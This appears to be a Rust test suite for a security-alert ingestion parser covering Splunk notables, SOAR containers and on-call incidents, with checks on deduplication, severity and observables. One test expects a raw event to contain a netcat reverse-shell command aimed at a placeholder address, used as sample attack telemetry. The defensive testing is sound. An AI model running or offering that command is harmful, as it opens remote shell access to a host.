//! What people post, and what went wrong with it before.

use super::*;
use crate::model::Observable;

fn case(name: &str) -> Value {
    sample(&format!("../cases/splunk/{name}.json"))
}

fn read_case(name: &str) -> Event {
    event_of(&case(name))
}

fn observed(event: &Event) -> Vec<&str> {
    let public = event
        .entity
        .observables
        .iter()
        .filter(|one| Observable::is_public(one));
    public.map(|one| &*one.value).collect()
}

#[test]
fn another_raw_event_is_the_same_alert_and_brings_its_own_text() {
    let (first, second) = (
        read_case("01a-raw-event-first"),
        read_case("01b-raw-event-other-raw"),
    );
    assert_eq!(first.entity.id, second.entity.id);
    let (one, other) = (first.firings().unwrap(), second.firings().unwrap());
    assert!(!one.hold(other));
    let mut issue = one.clone();
    issue.shown();
    issue.take_in(other);
    let told = value(&issue.rows[0].facts, "_raw").unwrap();
    assert!(told.contains("nc 203.0.113.66 4444 -e /bin/sh"), "{told}");
    let unnamed = read_case("01c-no-search-name").entity;
    assert_eq!(unnamed.name, "sudo: lin-07");
    assert_ne!(unnamed.id, first.entity.id);
}

#[test]
fn each_of_several_values_is_looked_at() {
    let md5 = "44d88612fea8a8f36de82e1278abb02f";
    let sha1 = "3395856ce81f2b7382dee72602f798b642f14140";
    for (name, values) in [
        (
            "03a-multivalue-newline",
            vec![md5, sha1, "1.0.0.1", "9.9.9.10", "8.8.4.4"],
        ),
        (
            "03b-multivalue-comma",
            vec![md5, sha1, "1.1.1.1", "9.9.9.9"],
        ),
        ("03c-multivalue-list", vec![md5, sha1, "1.1.1.1", "9.9.9.9"]),
    ] {
        let event = read_case(name);
        for value in values {
            assert!(observed(&event).contains(&value), "{name}: {value}");
        }
    }
}

#[test]
fn the_worst_of_several_severities_counts() {
    for (name, severity) in [
        ("04-severity-00-list-low-medium", "medium"),
        ("04-severity-03-list-info-medium", "medium"),
        ("04-severity-05-comma", "high"),
        ("04-severity-06-num6", "critical"),
        ("04-severity-08-fatal", "critical"),
        ("04-severity-15-5_-_critical", "critical"),
    ] {
        let entity = read_case(name).entity;
        assert_eq!(entity.severity.as_deref(), Some(severity), "{name}");
    }
}

#[test]
fn a_notable_in_its_raw_form_is_named_by_its_rule() {
    let (one, other) = (
        read_case("05a-raw-notable-1"),
        read_case("05b-raw-notable-2"),
    );
    for event in [&one, &other] {
        assert_eq!(event.entity.kind.as_str(), "splunk-notable");
        assert!(
            event
                .entity
                .name
                .starts_with("Access - Many Failed Logins - Rule: ")
        );
    }
    assert_ne!(one.entity.id, other.entity.id);
    assert_eq!(other.entity.severity.as_deref(), Some("critical"));
    assert_eq!(value(&other.entity.data, "user_count"), Some("38"));
}

#[test]
fn a_risk_notable_is_read_well_and_closed() {
    let (open, closed) = (
        read_case("06a-risk-notable"),
        read_case("06b-risk-notable-closed"),
    );
    assert_eq!(
        (&open.change, &closed.change),
        (&Change::UPDATED, &Change::Closed)
    );
    assert_eq!(open.entity.id, closed.entity.id);
    let name =
        "ATT&CK Tactic threshold exceeded (>=3) over previous 7 days for system=dc-01, dc-02";
    assert_eq!(open.entity.name, name);
    assert_eq!(open.entity.labels, ["T1110", "T1021.002"]);
    let data = &open.entity.data;
    let annotations = value(data, "annotations").unwrap();
    assert!(annotations.starts_with("kill_chain_phases: Exploitation; mitre_attack: T1110"));
    let searches = value(data, "drilldown_searches").unwrap();
    assert!(
        searches.starts_with("View the individual Risk Attributions: | from"),
        "{searches}"
    );
    assert_eq!(
        value(data, "rule_description"),
        None,
        "it is the description"
    );
    let facts = &closed.entity.facts;
    assert_eq!(value(facts, "owner"), Some("analyst1"));
    assert_eq!(
        value(facts, "comment"),
        Some("Scanner of the vulnerability team, closing")
    );
    assert_eq!(
        value(facts, "disposition_label"),
        Some("False Positive - Incorrect Analytic Logic")
    );
}

#[test]
fn every_row_of_a_list_files_or_the_body_is_refused() {
    let events = |name: &str| events_with(&case(name), &[]);
    for (name, count) in [
        ("07b-list-of-rows", 2),
        ("07c-results-list", 3),
        ("07e-result-null", 1),
    ] {
        let events = events(name);
        assert_eq!(events.len(), count, "{name}");
        for (place, event) in events.iter().enumerate() {
            let others = events[..place].iter();
            let ids: Vec<_> = others.map(|event| &event.entity.id).collect();
            assert!(!ids.contains(&&event.entity.id), "{name}");
        }
    }
    for row in [
        json!(["text"]),
        json!("text"),
        json!([{"a": 1}, 7]),
        json!(true),
    ] {
        let body = json!({"sid": "1", "search_name": "x", "result": row});
        let refused = read(body.to_string().as_bytes(), &[]);
        assert!(matches!(refused, Err(SourceError::NoEvent(_))), "{body}");
    }
    let none = json!({"sid": "1", "search_name": "x", "results": []});
    assert_eq!(events_with(&none, &[]).len(), 1);
}

#[test]
fn a_container_told_again_without_its_artifacts_is_the_same_and_closed() {
    let (whole, closed) = (
        read_case("08a-soar-container"),
        read_case("08e-soar-closed-without-artifacts"),
    );
    assert_eq!(whole.entity.id, closed.entity.id);
    assert_eq!(closed.change, Change::Closed);
    let mut after = closed.entity.clone();
    after.recall(&whole.entity.data, &whole.entity.observables);
    assert_eq!(after.data, whole.entity.data);
    assert!(!after.data.is_empty() && !after.observables.is_empty());
    for (key, told) in [
        ("id", "12"),
        ("owner_name", "alice"),
        ("due_time", "2026-01-16T19:18:00Z"),
        ("customer", "Alpha"),
        ("alert_type", "credential phishing"),
    ] {
        assert_eq!(value(&closed.entity.facts, key), Some(told), "{key}");
    }
    let playbook = read_case("08d-soar-playbook-container");
    assert_eq!(playbook.change, Change::UPDATED);
    assert_eq!(playbook.entity.name, "Playbook container without artifacts");
}

#[test]
fn containers_of_two_assets_are_two() {
    let body = case("08a-soar-container");
    let mut other = body.clone();
    other["asset"] = json!(4);
    other["asset_id"] = json!(4);
    assert_ne!(event_of(&body).entity.id, event_of(&other).entity.id);
}

#[test]
fn a_detector_is_an_alert_with_its_severity_and_its_end() {
    let body = case("09a-observability");
    let fired = event_of(&body);
    assert_eq!(fired.change, Change::UPDATED);
    assert_eq!(
        fired.entity.name,
        "Critical Alert: CPU too high (prod-web-1)"
    );
    assert_eq!(fired.entity.severity.as_deref(), Some("critical"));
    assert_eq!(value(&fired.entity.data, "host"), Some("prod-web-1"));
    for (member, word) in [("status", "ok"), ("statusExtended", "manually resolved")] {
        let mut quiet = body.clone();
        quiet[member] = json!(word);
        let quiet = event_of(&quiet);
        assert!(quiet.change.ends());
        assert_eq!(quiet.entity.id, fired.entity.id);
    }
    let mut other = body.clone();
    other["incidentId"] = json!("CCC");
    assert_ne!(event_of(&other).entity.id, fired.entity.id);
}

#[test]
fn an_incident_of_on_call_is_an_alert_until_it_recovers() {
    let incident = |kind: &str| {
        event_of(&json!({"message_type": kind, "entity_id": "disk/db-1",
            "entity_display_name": "Disk of db-1 is full", "state_message": "97 % used"}))
    };
    let critical = incident("CRITICAL");
    assert_eq!(critical.entity.name, "Disk of db-1 is full");
    assert_eq!(critical.entity.severity.as_deref(), Some("critical"));
    assert_eq!(incident("ACKNOWLEDGEMENT").entity.severity, None);
    let over = incident("RECOVERY");
    assert!(over.change.ends());
    assert_eq!(over.entity.id, critical.entity.id);
    let prefixed = json!({"ALERT.message_type": "CRITICAL", "ALERT.entity_id": "disk/db-1"});
    assert_eq!(event_of(&prefixed).entity.id, critical.entity.id);
}

#[test]
fn hashes_that_stand_together_are_one_file() {
    let event = read_case("13-sysmon-imphash");
    let sha256 = "4668bb2223ffb983a5f1273b9e3d9fa2c5ce4a0f1fb18ca5c1b285762020073c";
    let mut found = observed(&event);
    found.sort_unstable();
    assert_eq!(found, ["185.220.101.7", sha256]);
}

#[test]
fn hashes_in_fields_of_their_own_are_one_file_and_ids_are_none() {
    let sha256 = "4668BB2223FFB983A5F1273B9E3D9FA2C5CE4A0F1FB18CA5C1B285762020073C";
    let sha1 = "B0BF5AC2E81BBF597FAD5F349FEEB32CAC449FA2";
    let md5 = "6A255BEBF3DBCD13585538ED47DBAFD7";
    let fields = json!({
        "IMPHASH": md5, "MD5": md5, "SHA1": sha1, "SHA256": sha256,
        "aid": md5, "cid": md5, "device_guid": md5, "ja3": md5, "src_ip": "185.220.101.7",
    });
    let container = json!({
        "id": 5, "name": "Dumper", "artifacts": [{"cef": {
            "fileHashMd5": md5, "fileHashSha1": sha1, "fileHashSha256": sha256,
            "sourceAddress": "185.220.101.7",
        }}],
    });
    let row = event_of(&json!({"sid": "s1", "search_name": "Dumper", "result": fields}));
    for event in [row, event_of(&container)] {
        let mut found = observed(&event);
        found.sort_unstable();
        assert_eq!(found, ["185.220.101.7", &sha256.to_lowercase()]);
    }
}

#[test]
fn a_long_list_says_how_many_are_missing() {
    let body = case("14-long-list");
    let count = body["result"]["dest_ip"].as_array().unwrap().len();
    let entity = event_of(&body).entity;
    let shown = value(&entity.data, "dest_ip").unwrap();
    let (listed, more) = shown.rsplit_once(", … and ").unwrap();
    let more: usize = more.strip_suffix(" more").unwrap().parse().unwrap();
    assert_eq!(listed.split(", ").count() + more, count);
    assert!(shown.len() <= 1000, "a cell has no more");
    let addresses: Vec<String> = (0..400).map(|n| format!("198.51.{}.{n}", n % 7)).collect();
    for separator in ["\n", ",", ", "] {
        let data = row(json!({"ips": addresses.join(separator)})).data;
        let shown = value(&data, "ips").unwrap();
        assert!(shown.ends_with(" more") && shown.len() <= 1000, "{shown}");
    }
    // A text is no list.
    let text = "word, and ".repeat(300);
    let data = row(json!({"text": text})).data;
    assert!(!value(&data, "text").unwrap().ends_with(" more"));
}

#[test]
fn two_silent_indexes_are_two_alerts() {
    let (one, other) = (
        read_case("15a-index-silent-firewall"),
        read_case("15b-index-silent-proxy"),
    );
    assert_ne!(one.entity.id, other.entity.id);
    assert_eq!(value(&one.entity.data, "index"), Some("firewall"));
}

#[test]
fn what_an_attacker_writes_into_a_row_names_nothing_and_joins_nothing() {
    let bodies = case("h4-row-fields-written-by-an-attacker");
    let events = events_with(&bodies, &[]);
    let names: Vec<_> = events.iter().map(|event| &*event.entity.name).collect();
    assert_eq!(
        names,
        [
            "LSASS read: fin-01",
            "New domain admin: dc-01",
            "Backup deleted: bak-01"
        ]
    );
    let mut ids: Vec<_> = events.iter().map(|event| &event.entity.id).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 3);
    // The row says both, and the worse one counts.
    assert_eq!(events[0].entity.severity.as_deref(), Some("critical"));
}

#[test]
fn an_internal_host_in_a_link_is_replaced() {
    let body = json!({"sid": "1", "search_name": "x", "result": {},
        "results_link": "http://sh1:8000/app/search/@go?sid=1"});
    let settings = [("splunk_web_url", "https://splunk.example.com")];
    let link = |settings| events_with(&body, settings)[0].entity.link.clone().unwrap();
    assert_eq!(
        link(&settings[..]),
        "https://splunk.example.com/app/search/@go?sid=1"
    );
    assert_eq!(link(&[]), "http://sh1:8000/app/search/@go?sid=1");
}

#[test]
fn a_route_says_what_tells_the_alerts_of_its_search_apart() {
    let routes = "[[route]]\nwhen = { search = 'vpn*' }\nsplunk_dedup_fields = 'user'\n\
        [[route]]\nwhen = { search = 'sweep' }\nsplunk_group = 'run'";
    let settings = [("routes", routes)];
    let id = |search: &str, sid: &str, row: Value| {
        let body = json!({"sid": sid, "search_name": search, "result": row});
        events_with(&body, &settings)[0].entity.id.clone()
    };
    let (one, other) = (
        json!({"user": "a", "src": "1"}),
        json!({"user": "a", "src": "2"}),
    );
    assert_eq!(
        id("VPN logins", "1", one.clone()),
        id("VPN logins", "2", other.clone())
    );
    assert_ne!(
        id("Other", "1", one.clone()),
        id("Other", "1", other.clone())
    );
    assert_eq!(id("Sweep", "1", one.clone()), id("Sweep", "1", other));
    assert_ne!(id("Sweep", "1", one.clone()), id("Sweep", "2", one));
}

#[test]
fn an_id_of_a_rule_is_no_notables_and_of_several_ids_all_count() {
    let id = |row: Value| notable_row(row).id;
    let of_rule = |dest: &str| json!({"rule_id": "R", "rule_name": "x", "dest": dest});
    assert_ne!(id(of_rule("a")), id(of_rule("b")));
    let several = |ids: Value| json!({"event_id": ids, "rule_name": "x"});
    assert_ne!(
        id(several(json!(["1", "2"]))),
        id(several(json!(["1", "3"])))
    );
}

#[test]
fn an_empty_list_of_artifacts_is_no_artifacts_only_if_there_are_none() {
    let mut body = case("08a-soar-container");
    body["artifacts"] = json!([]);
    assert_eq!(
        event_of(&body).entity.raw_data,
        crate::model::RawData::LeftOut
    );
    body["artifact_count"] = json!(0);
    assert_eq!(
        event_of(&body).entity.raw_data,
        crate::model::RawData::Remembered
    );
}

#[test]
fn a_long_list_of_rows_is_read_in_linear_time() {
    let rows: Vec<Value> = (0..40_000).map(|number| json!({"host": number})).collect();
    let body = json!({"sid": "1", "search_name": "x", "result": rows});
    let began = crate::platform::fake::cpu_time();
    assert_eq!(events_with(&body, &[]).len(), 40_000);
    let took = crate::platform::fake::cpu_time() - began;
    assert!(took < std::time::Duration::from_secs(20), "{took:?}");
}
